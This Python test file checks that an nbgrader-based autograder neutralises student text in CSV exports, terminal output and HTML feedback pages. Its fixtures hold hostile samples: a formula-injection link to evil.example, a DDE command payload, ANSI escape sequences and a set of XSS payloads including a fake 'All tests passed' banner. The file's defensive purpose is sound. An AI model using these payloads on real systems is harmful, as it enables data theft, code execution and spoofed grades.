"""Student text stays inert wherever the grader shows it: in the CSV files it writes (no cell a
spreadsheet would evaluate), on the terminal (control characters shown escaped) and in the
feedback pages (no script, event handler, frame or ``javascript:`` link; a CSP; a note saying
what is the student's own output). Nothing here grades or runs a notebook."""

from __future__ import annotations

import csv
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from nbgrader.converters import GenerateFeedback

from autograder.cli import main
from autograder.course import Course
from autograder.feedback import NOTE, FeedbackExporter, FeedbackRun, feedback_api
from autograder.ids import safe_id
from autograder.report import write_csv
from autograder.roster import Identity, read_identities, write_identities
from autograder.safetext import spreadsheet_cell, spreadsheet_text, terminal_text
from tests.gradebooks import fake_grading

#: A Moodle or Canvas display name that is a formula, and one that paints the terminal.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your grade")'
ANSI = "eve\x1b[2J\x1b]0;owned\x07\rzed\x9b31m\u202egnp.exe"


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


# Spreadsheets


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-rf",
                                  "'=already quoted", "=1", "-", "+"])
def test_text_a_spreadsheet_would_evaluate_gets_an_apostrophe_and_comes_back(text: str):
    cell = spreadsheet_cell(text)
    assert cell == "'" + text
    assert spreadsheet_text(cell) == text


@pytest.mark.parametrize("value", [-1.5, 12, 0.0, "-1.5", "12", "+3", "-2e-3", ".5", "Zoë Li",
                                   "o'brien", "'quoted", "", "a=b", " =1"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert spreadsheet_cell(value) == value
    if isinstance(value, str):
        assert spreadsheet_text(value) == value


def test_grades_csv_quotes_formulas_and_keeps_scores_numbers(course: Course):
    table = pd.DataFrame([{"student_id": "-rf", "name": FORMULA, "score": -1.5, "max_score": 20.0,
                           "percent": -7.5, "late": "", "days_late": None,
                           "needs_look": "@cmd|' /C calc'!A0"}])
    cells = _cells(write_csv(table, course, "lab1"))
    assert cells[8:] == ["'-rf", "'" + FORMULA, "-1.5", "20.0", "-7.5", "", "",
                         "'@cmd|' /C calc'!A0"]


def test_identities_csv_quotes_formulas_and_reads_back_the_original(course: Course):
    who = Identity(safe_id(FORMULA), FORMULA, "moodle", "4242", "", "2026-03-01T10:00:00")
    path = write_identities(course, "lab1", [who])
    assert "'" + FORMULA in _cells(path)
    assert FORMULA not in _cells(path)
    assert read_identities(course, "lab1") == {who.student: who}


def test_lms_import_quotes_formulas_and_keeps_grades_numbers(course: Course, tmp_path: Path):
    """A Canvas export whose student (display name and SIS login) is a formula: the import
    file quotes them, and the grade stays a number."""
    student = safe_id(FORMULA)
    fake_grading(course, "lab1", {student: {"test_fit": 5, "test_predict": 10}},
                 identities=[Identity(student, FORMULA, "canvas", "12345", "678")])
    export = tmp_path / "export.csv"
    export.write_text('Student,ID,SIS User ID,SIS Login ID,Section,Lab 1 (30101)\n'
                      '    Points Possible,,,,,10.00\n'
                      f'"{FORMULA.replace(chr(34), chr(34) * 2)}",12345,S001,+sis,A,\n',
                      encoding="utf-8")
    assert main(["--work", str(course.work), "report", "lab1", "--lms", "canvas",
                 str(export)]) == 0
    rows = list(csv.reader((course.work / "reports" / "lab1_canvas_import.csv").open(
        encoding="utf-8")))
    assert rows[2][:4] == ["'" + FORMULA, "12345", "S001", "'+sis"]
    assert rows[2][-1] == "7.5"  # 15 of 20 points, on Canvas's 10


# Terminals


def test_terminal_text_shows_controls_escaped():
    shown = terminal_text(ANSI)
    assert shown == "eve\\x1b[2J\\x1b]0;owned\\x07\\x0dzed\\x9b31m\\u202egnp.exe"
    assert terminal_text("line one\nline\x1b two", lines=True) == "line one\nline\\x1b two"
    assert terminal_text("Zoë Li, 张伟, tab\tand newline\n") == "Zoë Li, 张伟, tab\\x09and newline\\x0a"


def _assert_inert(out: str) -> None:
    assert not any(c in out for c in "\x1b\x07\r\x9b\u202e"), repr(out)
    assert "\\x1b[2J" in out


def test_collect_prints_ids_and_file_names_escaped(tmp_path: Path, capsys):
    source = tmp_path / "downloads"
    (source / ANSI).mkdir(parents=True)
    (source / ANSI / "lab1.ipynb").write_bytes(nbformat.writes(nbformat.v4.new_notebook())
                                               .encode())
    assert main(["--work", str(tmp_path / "work"), "collect", "lab1", str(source)]) == 0
    _assert_inert(capsys.readouterr().out)


def test_report_prints_names_and_reasons_escaped(course: Course, capsys):
    student = safe_id(ANSI)
    fake_grading(course, "lab1", {student: {"test_fit": 5, "test_predict": 10}},
                 reasons={student: f"misnamed file: expected lab1.ipynb, found {ANSI}.ipynb"},
                 identities=[Identity(student, ANSI, "", "", "", "2026-03-02T10:00:00",
                                      "2026-03-01T10:00:00", True)])
    assert main(["--work", str(course.work), "report", "lab1"]) == 0
    out = capsys.readouterr().out
    _assert_inert(out)
    assert out.count("eve\\x1b[2J") >= 3  # the table, the late list and who needs a look


def test_grade_and_feedback_summaries_print_ids_and_reasons_escaped(tmp_path: Path, capsys,
                                                                    monkeypatch):
    monkeypatch.setattr("autograder.grade.grade", lambda *a, **k: {ANSI: f"reason {ANSI}"})
    monkeypatch.setattr("autograder.feedback.feedback_pages",
                        lambda *a, **k: FeedbackRun(missing={ANSI: f"why {ANSI}"}))
    work = ["--work", str(tmp_path / "work")]
    (tmp_path / "subs" / "someone").mkdir(parents=True)   # grade refuses an empty folder
    assert main([*work, "grade", "lab1", str(tmp_path / "subs")]) == 0
    _assert_inert(capsys.readouterr().out)
    assert main([*work, "feedback", "lab1"]) == 0
    _assert_inert(capsys.readouterr().out)


def test_an_error_message_is_printed_escaped(tmp_path: Path, capsys):
    bad = tmp_path / f"{ANSI}.zip"
    bad.write_bytes(b"not a zip")
    assert main(["--work", str(tmp_path / "work"), "collect", "lab1", str(bad)]) == 2
    err = capsys.readouterr().err
    _assert_inert(err)
    assert err.count("\n") == 1


# Feedback pages

HOSTILE_HTML = ("<script>alert('html')</script><img src=x onerror=alert('img')>"
                "<iframe src='https://evil.example'></iframe><object data='x.swf'></object>"
                "<embed src='x.swf'><a href='javascript:alert(1)'>your grade</a>"
                "<a href='JaVaScRiPt&colon;alert(2)'>again</a><svg onload=alert('svg')></svg>"
                "<style>h4 { display: none }</style>"
                "<div class='alert alert-success navbar-fixed-top' style='position:fixed'>"
                "All tests passed: 20 / 20</div>")


def _hostile_notebook() -> nbformat.NotebookNode:
    code = nbformat.v4.new_code_cell("show()")
    code.metadata["nbgrader"] = {"solution": True, "grade": False, "locked": False,
                                 "grade_id": '"><script>alert("id")</script>',
                                 "schema_version": 3}
    code.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": HOSTILE_HTML}),
        nbformat.v4.new_output("execute_result", execution_count=1,
                               data={"text/html": HOSTILE_HTML, "text/plain": "<frame>"}),
        nbformat.v4.new_output("display_data", data={"text/markdown": HOSTILE_HTML}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "alert('js')",
                                                     "image/svg+xml": HOSTILE_HTML}),
        nbformat.v4.new_output("stream", name="stdout", text=HOSTILE_HTML)]
    markdown = nbformat.v4.new_markdown_cell(f"My answer [click](javascript:alert(3)) "
                                             f"<javascript:alert(4)>\n\n{HOSTILE_HTML}")
    markdown.metadata["nbgrader"] = {"solution": True, "grade": False, "locked": False,
                                     "grade_id": "answer", "schema_version": 3}
    raw = nbformat.v4.new_raw_cell(HOSTILE_HTML, metadata={"raw_mimetype": "text/html"})
    nb = nbformat.v4.new_notebook(cells=[code, markdown, raw])
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0}}
    return nb


def _scheme(url: str) -> str:
    """The scheme a browser reads in ``url`` (it ignores controls and spaces), or ``""``."""
    clean = re.sub(r"[\x00-\x20]", "", url).lower()
    return clean.split(":", 1)[0] if ":" in clean else ""


class _Page(HTMLParser):
    """Every element of a page, with its attributes and whether it is in the body."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str], bool]] = []
        self.in_body = False

    def handle_starttag(self, tag, attrs):
        self.in_body |= tag == "body"
        self.elements.append((tag, {k: v or "" for k, v in attrs}, self.in_body))


def _page(course: Course) -> str:
    """The hostile notebook through the exporter nbgrader's feedback uses for this course."""
    api = feedback_api(course)
    converter = GenerateFeedback(coursedir=api.coursedir, parent=api)
    assert converter.exporter_class is FeedbackExporter
    exporter = converter.exporter_class(parent=converter, config=converter.config)
    resources = {"nbgrader": {"notebook": "lab1", "score": 3, "max_score": 20,
                              "late_penalty": 0}}
    return exporter.from_notebook_node(_hostile_notebook(), resources)[0]


def test_feedback_page_keeps_student_output_inert(course: Course):
    page = _page(course)
    parser = _Page()
    parser.feed(page)
    tags = [tag for tag, _, _ in parser.elements]
    assert "body" in tags
    for tag, attrs, in_body in parser.elements:
        assert not (in_body and tag == "script"), attrs
        assert tag not in ("iframe", "frame", "object", "embed", "svg", "base", "form"), tag
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        assert not any(_scheme(attrs.get(a, "")) in ("javascript", "vbscript", "data")
                       for a in ("href", "src", "action") if tag != "img"), attrs
        if in_body and tag in ("div", "span", "style"):
            assert "fixed" not in attrs.get("style", "") and "alert-success" not in attrs.get(
                "class", ""), attrs
    assert [tag for tag, _, in_body in parser.elements if in_body].count("style") == 0
    assert "All tests passed: 20 / 20" in page  # shown, as text, inside the output area
    assert "<pre>&lt;frame&gt;</pre>" in page  # HTML with a plain-text form: that text


def test_feedback_page_has_a_csp_forbidding_scripts_and_a_note(course: Course):
    page = _page(course)
    parser = _Page()
    parser.feed(page)
    metas = [attrs for tag, attrs, _ in parser.elements if tag == "meta"]
    csp = metas[0]
    assert csp["http-equiv"] == "Content-Security-Policy"
    assert "script-src 'none'" in csp["content"] and "default-src 'none'" in csp["content"]
    assert "object-src 'none'" in csp["content"] and "frame-src 'none'" in csp["content"]
    body = page.index("<body>")
    assert page.index(NOTE) > body and page.index(NOTE) < page.index("All tests passed")
